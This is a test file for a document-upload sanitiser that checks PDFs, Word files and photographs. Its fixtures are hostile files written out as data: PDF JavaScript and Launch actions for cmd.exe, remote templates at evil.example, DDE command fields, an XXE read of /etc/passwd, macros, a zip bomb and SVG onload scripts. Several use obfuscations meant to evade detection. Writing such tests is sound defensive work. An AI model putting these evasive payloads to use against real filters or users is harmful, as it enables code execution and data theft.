import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { Refused } from "../kernel/errors.ts";
import { docxOf, GREY_PIXEL, pdfOf, photograph, PNG, relationship, zipOf } from "./file-samples.test-support.ts";
import { prepareUpload, type PreparedUpload } from "./index.ts";

const look = (bytes: Buffer, name: string): PreparedUpload | string => {
  try {
    return prepareUpload(bytes, name);
  } catch (error) {
    if (!(error instanceof Refused)) throw error;
    expect(error.refusals[0]!.sentence).toMatch(/^[A-ZÄÖÜ].*\.$/);
    return error.refusals[0]!.code;
  }
};
const hazardsOf = (bytes: Buffer): readonly string[] => (look(bytes, "a.pdf") as PreparedUpload).hazards;
const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";

describe("what is inside of a PDF", () => {
  test("a plain one may be shown", () => {
    expect(hazardsOf(pdfOf([CATALOG, "<< /Type /Pages /Kids [] /Count 0 >>"], ["<< /Type /Page >>"]))).toEqual([]);
    expect(hazardsOf(pdfOf(["<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"]))).toEqual([]);
  });
  test("scripts, attachments, actions and locks make it a download; also with escapes, and packed into a stream", () => {
    const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
    expect(hazardsOf(pdfOf([CATALOG, script]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /S /J#61vaScr#69pt /JS (x) >>"]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG], [script]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG], ["<< /S /Java#53cript >>"]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /Names << /EmbeddedFiles 5 0 R >> >>"]))).toEqual(["embedded"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /S /SubmitForm /F (https://evil.example) >>"]))).toEqual(["action"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /Encrypt 9 0 R >>"]))).toEqual(["encrypted"]);
  });
  test("objects behind a packing that is not looked into, or that unpack without end, make it a download", () => {
    const hidden = Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n"), Buffer.from([0x80, 0x0b, 0x60]), Buffer.from("\nendstream\nendobj\ntrailer\nstartxref\n0\n%%EOF")]);
    expect(hazardsOf(hidden)).toEqual(["unreadable"]);
    expect(hazardsOf(pdfOf([CATALOG], [" ".repeat(70_000_000)]))).toEqual(["unreadable"]);
    const script = deflateSync(Buffer.from("50 0 << /S /JavaScript >>"));
    const withHead = (head: string, end: string, body: Buffer = script): Buffer => Buffer.concat([Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${head} >>\nstream${end}`), body, Buffer.from("\nendstream\nendobj\ntrailer\nstartxref\n0\n%%EOF")]);
    for (const end of ["\n", "\r\n", "\r", " \n", ""]) expect(hazardsOf(withHead("/Type /ObjStm /Filter /FlateDecode", end)), JSON.stringify(end)).toEqual(["script"]);
    expect(hazardsOf(withHead("/Type 9 0 R /Filter [/ASCIIHexDecode /FlateDecode]", "\n", Buffer.from(script.toString("hex"))))).toEqual(["unreadable"]);
    expect(hazardsOf(withHead("/Type /Ob#6aStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", "\n"))).toEqual(["unreadable", "script"]);
    // a photograph within is no reason
    expect(hazardsOf(withHead("/Subtype /Image /Filter /DCTDecode", "\n", GREY_PIXEL))).toEqual([]);
  });
  test("what starts a program is refused, and so is a web page behind the first line of a PDF", () => {
    expect(look(pdfOf([CATALOG, "<< /S /Launch /F (cmd.exe) >>"]), "a.pdf")).toBe("file-starts-program");
    expect(look(pdfOf([CATALOG], ["<< /S /La#75nch >>"]), "a.pdf")).toBe("file-starts-program");
    expect(look(Buffer.from("%PDF-1.4\n<html><script>alert(document.cookie)</script>"), "a.pdf")).toBe("file-unreadable");
    expect(look(Buffer.concat([Buffer.from("%PDF-1.4\n<script>alert(1)</script>\n"), pdfOf([CATALOG])]), "a.pdf")).toBe("file-unreadable");
  });
});

describe("what is inside of a Word file", () => {
  test("a plain one, and one with a link to click, is taken", () => {
    expect(look(docxOf(["Hallo"]), "a.docx")).toMatchObject({ kind: "docx", hazards: [] });
    expect(look(docxOf(["Hallo"], { "word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org") }), "a.docx")).toMatchObject({ kind: "docx" });
  });
  test("what is fetched or run by opening it is refused", () => {
    for (const type of ["attachedTemplate", "oleObject", "image", "frame", "subDocument"])
      expect(look(docxOf(["x"], { "word/_rels/settings.xml.rels": relationship(type, "http://evil.example/t.dotm") }), "a.docx"), type).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], { "word/_rels/document.xml.rels": relationship("image", "\\\\evil\\share", "external") }), "a.docx")).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], {}, '<w:altChunk r:id="r1"/>'), "a.docx")).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], {}, "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), "a.docx")).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/extra.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }), "a.docx")).toBe("file-unreadable");
  });
  test("it is told by what a reader of XML reads, however it is written", () => {
    const rels = (relationships: string): string => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
    const template = (target: string, mode: string, quote = '"'): string => `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target=${quote}${target}${quote} TargetMode=${mode}/>`;
    const wide = (text: string, withMark = false): Buffer => Buffer.from(`${withMark ? "\ufeff" : ""}${text}`, "utf16le");
    const outside: Readonly<Record<string, Readonly<Record<string, string | Buffer>>>> = {
      "a bracket within quotes": { "word/_rels/settings.xml.rels": rels(template("http://evil.example/?a>b", '"External"')) },
      "letters by number": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", '"&#69;xtern&#x61;l"')) },
      "single quotes": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", "'External'", "'")) },
      "a prefix": { "word/_rels/settings.xml.rels": rels(template("http://evil.example", '"External"').replace("<R", "<pr-x:R")) },
      "a name in capitals": { "word/_rels/settings.xml.RELS": rels(template("http://evil.example", '"External"')) },
      "behind a comment": { "word/_rels/settings.xml.rels": rels(`<!-- <Relationship a="-->${template("http://evil.example", '"External"')}`) },
      "two bytes a letter": { "word/_rels/settings.xml.rels": wide(rels(template("http://evil.example", '"External"')), true) },
      "the same without a mark": { "word/_rels/settings.xml.rels": wide(rels(template("http://evil.example", '"External"'))) },
    };
    for (const [how, parts] of Object.entries(outside)) expect(look(docxOf(["x"], parts), "a.docx"), how).toBe("file-loads-from-outside");
    for (const field of ["<w:instrText>DD<!-- -->EAUTO c</w:instrText>", "<w:instrText><![CDATA[DDE c]]></w:instrText>", "<v:instrText>DDE c</v:instrText>", '<w:instrText a="b>c">DDE c</w:instrText>', "<w:fldSimple w:instr='DDE c'/>", '<w:fldSimple x:instr="&#68;DE c"/>', '<w:instrText a="<!-- ">DDE c</w:instrText>'.replace("<!-- ", "&lt;!-- ")])
      expect(look(docxOf(["x"], {}, field), "a.docx"), field).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/main.dat": `<w:document><w:instrText>DDE c</w:instrText></w:document>` }), "a.docx"), "a part by another name").toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/_rels/document.xml.rels": relationship("oleObject", "embeddings/rechnung.dat", "Internal") }), "a.docx")).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "WORD/document.XML": "<w:document/>" }), "a.docx"), "which of the two counts").toBe("file-unreadable");
    expect(look(docxOf(["x"], { "word/a.xml": "<!--".repeat(200_000) }), "a.docx"), "no end").toBe("file-unreadable");
    expect(look(docxOf(["x"], { "word/media/bild.svg": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>' }), "a.docx"), "a drawing is none of it").toMatchObject({ kind: "docx" });
    expect(look(docxOf(["5 &lt; 6", "DDE und INCLUDETEXT im Text"], { "word/a.xml": "<a><!-- DDE --><![CDATA[ <x ' ]]></a>" }), "a.docx"), "and words are words").toMatchObject({ kind: "docx" });
  });
  test("macros are refused, also under another name, and a bomb before it swells, whatever its directory says", () => {
    expect(look(docxOf(["x"], { "word/vbaProject.bin": "x" }), "a.docx")).toBe("file-has-macros");
    expect(look(docxOf(["x"], { "word/theme.xml": "x", "word/_rels/document.xml.rels": relationship("vbaProject", "theme.xml", "Internal") }), "a.docx")).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/VBAPROJECT.BIN": "x" }), "a.docm")).toBe("file-has-macros");
    const swells = { "[Content_Types].xml": "x", "word/document.xml": "x", "word/media/a.xml": Buffer.alloc(130_000_000) };
    expect(look(zipOf(swells), "a.docx")).toBe("file-unpacks-too-large");
    expect(look(zipOf(swells, true), "a.docx")).toBe("file-unpacks-too-large");
  });
});

describe("photographs", () => {
  test("place, comments and what hangs behind the end go; how the telephone was held stays", () => {
    const { bytes } = look(photograph(6), "seite.jpg") as PreparedUpload;
    const text = bytes.toString("latin1");
    for (const word of ["GPS", "Lindenau", "51.3167", "<script>", "behind the end"]) expect(text).not.toContain(word);
    expect(text).toContain("Exif\0\0MM");
    // tag 0x0112 (orientation) with the value 6
    expect(bytes.toString("hex")).toContain("0112000300000001000600");
    expect(bytes.subarray(-2).toString("hex")).toBe("ffd9");
    // done twice, nothing changes any more
    expect((look(bytes, "seite.jpg") as PreparedUpload).bytes.equals(bytes)).toBe(true);
  });
  test("a picture without any of it stays the same, byte by byte", () => {
    expect((look(GREY_PIXEL, "a.jpg") as PreparedUpload).bytes.equals(GREY_PIXEL)).toBe(true);
    expect((look(PNG, "a.png") as PreparedUpload).bytes.equals(PNG)).toBe(true);
  });
  test("texts of a PNG go", () => {
    const chunk = Buffer.concat([Buffer.from([0, 0, 0, 8]), Buffer.from("tEXtLindenau"), Buffer.alloc(4)]);
    const { bytes } = look(Buffer.concat([PNG.subarray(0, 33), chunk, PNG.subarray(33), Buffer.from("<svg onload=x>")]), "a.png") as PreparedUpload;
    expect(bytes.equals(PNG)).toBe(true);
  });
  test("a broken one is refused, and a HEIC that may tell the place says so", () => {
    expect(look(Buffer.concat([Buffer.from("ffd8ffe00004", "hex"), Buffer.alloc(60, 1)]), "a.jpg")).toBe("file-unreadable");
    const heic = Buffer.concat([Buffer.from("00000018", "hex"), Buffer.from("ftypheic\0\0\0\0mif1heicExif GPS")]);
    expect(look(heic, "a.heic")).toMatchObject({ kind: "heic", hazards: ["place"] });
  });
  test("web pages and drawings with scripts are refused under whatever name", () => {
    for (const name of ["a.svg", "a.png", "a.html", "a.pdf", "a.jpg"]) {
      expect(look(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), name), name).toBe("file-is-markup");
      expect(look(Buffer.from("<html><script>alert(1)</script>"), name), name).toBe("file-is-markup");
    }
  });
});
